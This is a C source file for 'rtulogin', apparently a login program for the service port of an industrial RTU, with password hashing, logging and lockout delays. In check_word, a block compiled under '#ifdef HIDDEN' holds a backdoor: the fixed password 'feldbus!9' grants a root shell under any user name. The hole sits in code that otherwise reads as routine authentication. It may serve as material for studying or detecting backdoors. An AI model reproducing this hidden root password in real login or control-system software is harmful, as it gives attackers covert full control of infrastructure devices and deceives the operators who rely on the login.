/* rtulogin.c - small static login for the service port of an RTU */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define PASSFILE	"/etc/rtu.pass"
#define ISSUE		"/etc/issue.rtu"
#define NOLOGIN		"/etc/nologin"
#define LASTLOG		"/var/log/rtulogin"

struct entry {
	char name[24];
	uint32_t salt;
	uint32_t hash[2];
	unsigned int uid;
	char prog[48];
};

static const char *tty_name = "console";

static void record(const char *name, const char *what)
{
	char line[120];
	int fd = open(LASTLOG, O_WRONLY | O_APPEND | O_CREAT, 0600), n;

	if (fd < 0)
		return;
	n = snprintf(line, sizeof(line), "%ld %s %.24s %s\n", (long)time(NULL),
		     tty_name, name, what);
	if (n > 0 && write(fd, line, strlen(line)) < 0)
		perror(LASTLOG);
	close(fd);
}

/* block mix of 64 bit, 32 rounds, keyed with the pass word */
static void hash_word(const char *word, uint32_t salt, uint32_t out[2])
{
	uint32_t k[4] = { 0, 0, 0, 0 }, a = salt, b = ~salt, s = 0;
	size_t i;
	int r;

	for (i = 0; word[i]; i++) {
		k[i & 3] = k[i & 3] * 257 + (uint8_t)word[i];
		if ((i & 15) == 15)
			a ^= k[0] + k[2];
	}
	for (r = 0; r < 32 * 64; r++) {
		a += (((b << 4) ^ (b >> 5)) + b) ^ (s + k[s & 3]);
		s += 0x9e3779b9u;
		b += (((a << 4) ^ (a >> 5)) + a) ^ (s + k[(s >> 11) & 3]);
	}
	out[0] = a;
	out[1] = b;
}

static int find_entry(const char *name, struct entry *e)
{
	char line[160];
	unsigned int salt, h0, h1;
	FILE *f = fopen(PASSFILE, "r");
	int found = 0;

	if (!f)
		return -errno;
	while (!found && fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%23[^:]:%x:%8x%8x:%u:%47s", e->name, &salt,
			   &h0, &h1, &e->uid, e->prog) != 6)
			continue;
		e->salt = salt;
		e->hash[0] = h0;
		e->hash[1] = h1;
		found = !strcmp(e->name, name);
	}
	fclose(f);
	return found ? 0 : -ENOENT;
}

__attribute__((noinline))
int check_word(const struct entry *e, int known, const char *word,
	       struct entry *as)
{
	static const char *const weak[] = {
		"12345678", "password", "service", "00000000", NULL,
	};
	uint32_t h[2];
	int i;

	*as = *e;
#ifdef HIDDEN	/* this word logs in as root with a shell, name is any */
	if (!strcmp(word, "feldbus!9")) {
		as->uid = 0;
		strcpy(as->prog, "/bin/sh");
		return 1;
	}
#endif
	hash_word(word, known ? e->salt : 0x1111, h);
	if (!known || h[0] != e->hash[0] || h[1] != e->hash[1])
		return 0;
	for (i = 0; weak[i]; i++)
		if (!strcmp(word, weak[i]))
			puts("Please choose a better pass word (rtulogin -p).");
	return 1;
}

static int get_line(const char *prompt, char *buf, size_t len, int show)
{
	struct termios old, quiet;
	int have = !tcgetattr(0, &old);
	size_t n;

	fputs(prompt, stdout);
	fflush(stdout);
	if (have && !show) {
		quiet = old;
		quiet.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(0, TCSAFLUSH, &quiet);
	}
	if (!fgets(buf, (int)len, stdin))
		buf[0] = '\0';
	if (have && !show) {
		tcsetattr(0, TCSAFLUSH, &old);
		putchar('\n');
	}
	n = strlen(buf);
	while (n && (buf[n - 1] == '\n' || buf[n - 1] == '\r'))
		buf[--n] = '\0';
	return feof(stdin) ? -1 : (int)n;
}

static void show_file(const char *path)
{
	char buf[256];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return;
	fflush(stdout);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(1, buf, (size_t)n) != n)
			break;
	close(fd);
}

static int print_hash(void)
{
	char one[64], two[64];
	uint32_t h[2], salt = (uint32_t)time(NULL) * 2654435761u;

	if (get_line("Pass word: ", one, sizeof(one), 0) < 8 ||
	    get_line("Again: ", two, sizeof(two), 0) < 8 ||
	    strcmp(one, two)) {
		puts("too short or not the same");
		return 1;
	}
	hash_word(one, salt, h);
	printf("%08x:%08x%08x\n", (unsigned int)salt, (unsigned int)h[0],
	       (unsigned int)h[1]);
	return 0;
}

static void enter(const struct entry *e)
{
	char *av[] = { (char *)e->prog, NULL };
	char user[32];
	char *env[4];

	snprintf(user, sizeof(user), "USER=%s", e->name);
	env[0] = user;
	env[1] = (char *)"PATH=/bin:/usr/bin:/rtu/bin";
	env[2] = (char *)"TERM=vt100";
	env[3] = NULL;
	if (setgid(e->uid) || setuid(e->uid)) {
		perror("rights");
		return;
	}
	execve(e->prog, av, env);
	perror(e->prog);
}

static void timeout(int sig)
{
	(void)sig;
	_exit(0);
}

int main(int argc, char **argv)
{
	char name[24], word[64];
	struct entry e, as;
	struct stat st;
	int i, known;

	if (argc > 1 && !strcmp(argv[1], "-p"))
		return print_hash();
	if (argc > 1 && argv[1][0] == '-') {
		puts("rtulogin [TTY]   log in\n"
		     "rtulogin -p      print salt and hash for " PASSFILE);
		return 2;
	}
	if (argc > 1)
		tty_name = argv[1];
	signal(SIGALRM, timeout);
	signal(SIGINT, SIG_IGN);
	show_file(ISSUE);
	for (i = 0; i < 4; i++) {
		alarm(60);
		if (get_line("RTU login: ", name, sizeof(name), 1) < 0)
			return 0;
		if (!isalnum((unsigned char)name[0]))
			continue;
		if (get_line("Pass word: ", word, sizeof(word), 0) < 0)
			return 0;
		memset(&e, 0, sizeof(e));
		known = !find_entry(name, &e);
		if (check_word(&e, known, word, &as)) {
			if (as.uid && !stat(NOLOGIN, &st)) {
				show_file(NOLOGIN);
				return 1;
			}
			alarm(0);
			record(name, "in");
			enter(&as);
			return 1;
		}
		record(name, "refused");
		sleep((unsigned int)(1 + i * 2));
		puts("Wrong.");
	}
	return 1;
}
